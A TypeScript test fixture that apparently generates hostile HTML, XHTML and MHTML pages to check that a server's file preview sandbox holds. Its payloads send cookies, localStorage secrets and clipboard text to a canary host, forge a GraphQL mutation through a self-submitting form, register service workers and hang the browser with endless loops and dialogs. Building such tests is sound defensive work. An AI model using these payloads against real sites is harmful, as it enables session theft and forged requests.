import { type Attack, type AttackFacts, onlyInFull } from './attack.ts';
import { everything, inAttribute, mutation, scripted } from './payload.ts';

const page = (body: string) => `<!doctype html><meta charset="utf-8"><body>${body}</body>`;
const html = (what: string, body: (facts: AttackFacts) => string): Attack => ({
  what: `HTML: ${what}`,
  file: 'attack.html',
  content: (facts) => page(body(facts)),
});
const script = (what: string, code: (facts: AttackFacts) => string): Attack =>
  html(what, (facts) => `<script>${code(facts)}</script>`);

/** Pages that want out of their frame. */
export const HTML_ATTACKS: readonly Attack[] = [
  html('a script tries everything', scripted),
  html('a script of another host', ({ canary }) => `<script src="${canary.url}/script.js"></script>`),
  html(
    'event handlers',
    (facts) => `<img src="x:" onerror="${inAttribute(facts)}"><svg onload="${inAttribute(facts)}">`,
  ),
  html(
    'refresh to another host',
    ({ canary }) => `<meta http-equiv="refresh" content="0; url=${canary.url}/refresh">`,
  ),
  onlyInFull(
    html(
      'refresh to a script',
      () => `<meta http-equiv="refresh" content="0; url=javascript:localStorage.stolen=1">`,
    ),
  ),
  script(
    'goes to another host by itself',
    ({ canary }) => `location = '${canary.url}/location?' + document.title`,
  ),
  script('goes to the pages of the server', ({ server }) => `location = '${server}/settings'`),
  html(
    'a form that sends itself to another host',
    ({ canary }) =>
      `<form method="post" action="${canary.url}/form"><input name="a"></form><script>document.forms[0].submit()</script>`,
  ),
  html(
    'a form that sends itself to the API',
    (facts) =>
      `<form method="post" enctype="text/plain" action="${facts.server}/api/graphql"><input name='${mutation(facts).slice(0, -1)},"x":"' value='"}'></form><script>document.forms[0].submit()</script>`,
  ),
  html(
    'links that click themselves',
    ({ canary }) =>
      `<a id="a" target="_top" href="${canary.url}/top">a</a><a id="b" target="_blank" href="${canary.url}/blank">b</a><a id="c" download href="${canary.url}/download" ping="${canary.url}/ping">c</a><script>a.click(); b.click(); c.click()</script>`,
  ),
  onlyInFull(
    script(
      'windows without end',
      ({ canary }) => `for (let i = 0; i < 50; i += 1) open('${canary.url}/' + i)`,
    ),
  ),
  script(
    'reads who opened or holds it',
    ({ canary }) =>
      `for (const other of [opener, parent, top]) try { fetch('${canary.url}/?' + other.document.cookie + other.localStorage.secret) } catch {}`,
  ),
  script(
    'registers a service worker',
    ({ server }) =>
      `for (const path of [location.href, '${server}/', 'sw.js']) navigator.serviceWorker?.register(path, { scope: '/' }).catch(() => 0)`,
  ),
  html(
    'frames of another host and of the server',
    ({ canary, server }) =>
      `<iframe src="${canary.url}/frame"></iframe><iframe src="${server}/aqd/experiments"></iframe><object data="${canary.url}/object"></object><embed src="${canary.url}/embed">`,
  ),
  onlyInFull(
    html(
      'frames with their text in an attribute',
      (facts) => `<iframe srcdoc="&lt;script>${inAttribute(facts)}&lt;/script>"></iframe>`,
    ),
  ),
  html(
    'frames of data and scripts',
    ({ canary }) =>
      `<iframe src="data:text/html,<script>fetch('${canary.url}/data')</script>"></iframe><iframe src="javascript:fetch('${canary.url}/js')"></iframe><object data="data:text/html,<img src=${canary.url}/object>"></object>`,
  ),
  onlyInFull(
    html(
      'another base for its links',
      ({ canary }) => `<base href="${canary.url}/"><img src="image"><link rel="stylesheet" href="style.css">`,
    ),
  ),
  html(
    'styles that load',
    ({ canary }) =>
      `<style>@import '${canary.url}/import.css'; @font-face { font-family: f; src: url(${canary.url}/font) } body { font-family: f; background: url(${canary.url}/background); cursor: url(${canary.url}/cursor), auto }</style><p style="background: url(${canary.url}/inline)">text</p>`,
  ),
  html('hints to load or connect early', ({ canary }) =>
    [
      'preload',
      'prefetch',
      'preconnect',
      'dns-prefetch',
      'modulepreload',
      'prerender',
      'stylesheet',
      'icon',
      'manifest',
    ]
      .map((rel) => `<link rel="${rel}" href="${canary.url}/${rel}" as="script">`)
      .join(''),
  ),
  html(
    'rules to load ahead',
    ({ canary }) =>
      `<script type="speculationrules">{ "prefetch": [{ "source": "list", "urls": ["${canary.url}/prefetch"] }], "prerender": [{ "source": "list", "urls": ["${canary.url}/prerender"] }] }</script>`,
  ),
  html(
    'pictures and films of another host',
    ({ canary }) =>
      `<img src="${canary.url}/img" srcset="${canary.url}/set 2x"><video autoplay poster="${canary.url}/poster" src="${canary.url}/video"><track default src="${canary.url}/track"></video><audio autoplay src="${canary.url}/audio"></audio><picture><source srcset="${canary.url}/source"><img></picture><input type="image" src="${canary.url}/input"><table background="${canary.url}/table"><tr><td>x</table>`,
  ),
  script(
    'speaks by WebRTC',
    ({ canary }) =>
      `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${canary.udpPort}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
  ),
  html(
    'speaks by WebRTC from a frame of its own',
    ({ canary }) =>
      `<iframe srcdoc="<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${canary.udpPort}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))</script>"></iframe>`,
  ),
  onlyInFull(
    script(
      'speaks by WebTransport',
      ({ canary }) => `new WebTransport('${canary.url.replace('http:', 'https:')}/transport')`,
    ),
  ),
  onlyInFull(
    script(
      'a worker of its own',
      ({ canary }) =>
        `new Worker(URL.createObjectURL(new Blob(["fetch('${canary.url}/worker'); importScripts('${canary.url}/import.js')"], { type: 'text/javascript' })))`,
    ),
  ),
  onlyInFull(
    script(
      'asks for the camera, the place and the clipboard',
      ({ canary }) =>
        `navigator.geolocation?.getCurrentPosition(() => 0); navigator.mediaDevices?.getUserMedia({ video: true }).catch(() => 0); navigator.clipboard?.readText().then((text) => fetch('${canary.url}/?' + text)).catch(() => 0); document.documentElement.requestFullscreen?.().catch(() => 0)`,
    ),
  ),
  script('never ends', () => 'for (;;) {}'),
  onlyInFull(
    script('never ends in promises', () => 'const again = () => Promise.resolve().then(again); again()'),
  ),
  script(
    'dialogs without end',
    () => 'for (let i = 0; i < 1000; i += 1) { alert(i); confirm(i); prompt(i); print() }',
  ),
  script(
    'messages without end',
    () =>
      `setInterval(() => { for (let i = 0; i < 500; i += 1) parent.postMessage('x'.repeat(10000), '*') }, 0)`,
  ),
  onlyInFull(
    script(
      'writes without end',
      () =>
        `setInterval(() => document.body.append(...Array.from({ length: 500 }, () => document.createElement('marquee'))), 0)`,
    ),
  ),
  onlyInFull(
    script(
      'history without end',
      ({ server }) =>
        `for (let i = 0; i < 300; i += 1) { try { history.pushState(null, '', '#' + i); history.back(); parent.history.pushState(null, '', '${server}/stolen') } catch {} }`,
    ),
  ),
  { what: 'HTML: in capitals', isLong: true, file: 'ATTACK.HTML', content: (facts) => page(scripted(facts)) },
  {
    what: 'HTML: an old ending',
    isLong: true,
    file: 'attack.htm',
    content: (facts) => page(scripted(facts)),
  },
  {
    what: 'XHTML',
    file: 'attack.xhtml',
    content: (facts) =>
      `<html xmlns="http://www.w3.org/1999/xhtml"><head><script><![CDATA[${everything(facts)}]]></script></head><body/></html>`,
  },
  {
    what: 'a page and its parts in one file',
    isLong: true,
    file: 'attack.mhtml',
    content: (facts) =>
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://x/\r\n\r\n${page(scripted(facts))}\r\n--b--`,
  },
];
